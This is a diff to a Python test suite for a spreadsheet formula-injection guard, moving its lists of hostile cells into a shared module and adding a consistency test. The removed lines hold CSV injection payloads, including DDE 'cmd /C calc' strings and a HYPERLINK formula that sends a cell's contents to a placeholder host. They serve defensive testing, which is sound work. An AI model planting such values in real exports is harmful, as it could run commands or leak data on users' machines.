@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import csv
 import io
-import unicodedata
 
 import pyarrow as pa
 import pytest
@@ -13,53 +12,9 @@ from hypothesis import strategies as st
 
 from analysis.export.spreadsheets import csv_cells, csv_header, csv_lines
 from analysis.spreadsheet_guard import guarded, unguarded
+from tests.hostile_cells import AFTER_A_SEPARATOR, FIXED, SIGNS, runs
 
-SIGNS = "=+-@|%＝＋－＠｜％﹦﹢﹣﹫﹪−"
-HIDDEN = [
-    "",
-    " ",
-    "\t",
-    "\r",
-    "\n",
-    "\x00",
-    "\ufeff",
-    "\u200b",
-    "\u00a0",
-    "\u3000",
-    "\u2060",
-    "\u202e",
-    "\x7f",
-    "  \u200d",
-]
-PAYLOADS = [
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
-    "+1+1",
-    "-1+1",
-    "-2+3+cmd|' /C calc'!D2",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "|cmd",
-    "%0A=1",
-    "=",
-    "-",
-    "+",
-    "@",
-    '"=1+1"'[1:],
-    "=1\n=2",
-    "-1\n",
-    "+86 138 0013 8000",
-    "-5e3",
-    "+-5",
-    "--5",
-    "-１",
-    "=\x00",
-    "@user",
-    "-ann",
-    '=DDE("cmd";"/C calc";"!A0")',
-]
-HOSTILE = [hidden + sign + "1+1" for hidden in HIDDEN for sign in SIGNS] + PAYLOADS
-AFTER_A_SEPARATOR = ["a;=1+1", "a; =1+1", "a\t=1+1", "a\n=1+1", "a\r\n@x", "a;\u200b-x", "a;;＝1", "ann;=1;bob"]
+HOSTILE = [*FIXED, *AFTER_A_SEPARATOR]
 PLAIN = [
     "ann",
     "a-b",
@@ -83,33 +38,11 @@ def safe(text: str) -> str:
     return guarded(pa.array([text], pa.string()))[0].as_py()
 
 
-def begins_a_formula(cell: str) -> bool:
-    """Written apart from the code: what is left after everything that can't be seen."""
-    visible = cell.lstrip(
-        "".join(
-            {
-                letter
-                for letter in cell
-                if unicodedata.category(letter)[0] in "ZM" or unicodedata.category(letter) in ("Cc", "Cf", "Co")
-            }
-        )
-    )
-    return bool(visible) and visible[0] in SIGNS
-
-
-def runs(cell: str) -> bool:
-    plain_number = cell.lstrip("+-").replace(".", "", 1).isdecimal() and cell.isascii()
-    if begins_a_formula(cell) and not (plain_number and cell[1:2] not in "+-."):
-        return True
-    later = cell.replace("\t", ";").replace("\r", ";").replace("\n", ";").split(";")[1:]
-    return any(begins_a_formula(part) for part in later)
-
-
 def test_there_are_enough_hostile_cells() -> None:
-    assert len({*HOSTILE, *AFTER_A_SEPARATOR}) >= 200
+    assert len(set(HOSTILE)) >= 200
 
 
-@pytest.mark.parametrize("text", [*HOSTILE, *AFTER_A_SEPARATOR], ids=ascii)
+@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
 def test_a_hostile_cell_is_made_plain_and_keeps_its_text(text: str) -> None:
     assert runs(text)
     assert not runs(safe(text))
@@ -119,6 +52,15 @@ def test_a_hostile_cell_is_made_plain_and_keeps_its_text(text: str) -> None:
 @pytest.mark.parametrize("text", PLAIN, ids=ascii)
 def test_a_plain_cell_stays_as_it_is(text: str) -> None:
     assert safe(text) == text
+
+
+def test_a_text_is_treated_alike_whatever_stands_beside_it() -> None:
+    """Most are told by their bytes alone; the few others are looked at by themselves."""
+    mixed = pa.array(["ann", None, *HOSTILE, *PLAIN, "", "bob;carl"], pa.string())
+    assert guarded(mixed).to_pylist() == [None if text is None else safe(text) for text in mixed.to_pylist()]
+    assert guarded(mixed.slice(3, 40)).to_pylist() == guarded(mixed).to_pylist()[3:43]
+    cells = csv_cells(mixed).to_pylist()
+    assert cells == [csv_cells(pa.array([text], pa.string()))[0].as_py() for text in mixed.to_pylist()]
 
 
 def test_an_apostrophe_of_its_own_is_told_from_a_guard() -> None:
